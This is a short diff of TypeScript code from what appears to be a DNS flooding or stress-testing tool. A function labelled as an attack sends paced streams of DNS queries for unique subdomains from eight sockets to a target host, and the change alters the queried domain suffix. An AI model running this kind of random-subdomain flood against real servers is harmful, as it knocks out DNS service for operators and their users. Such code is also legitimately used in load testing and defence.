@@ -48,7 +48,7 @@ function bind(address: string): Promise<Socket> {
 async function askUniqueNames({ host, ports, from }: Attack): Promise<void> {
   const sockets = await Promise.all(Array.from({ length: 8 }, () => bind(from)));
   pace(UNIQUE_RATE, (number) => {
-    const question = encodeQuestion(`u${number}.never.net`, { id: number & 0xffff });
+    const question = encodeQuestion(`u${number}.net`, { id: number & 0xffff });
     sockets[number % sockets.length]?.send(question, ports.udp, host);
   });
 }
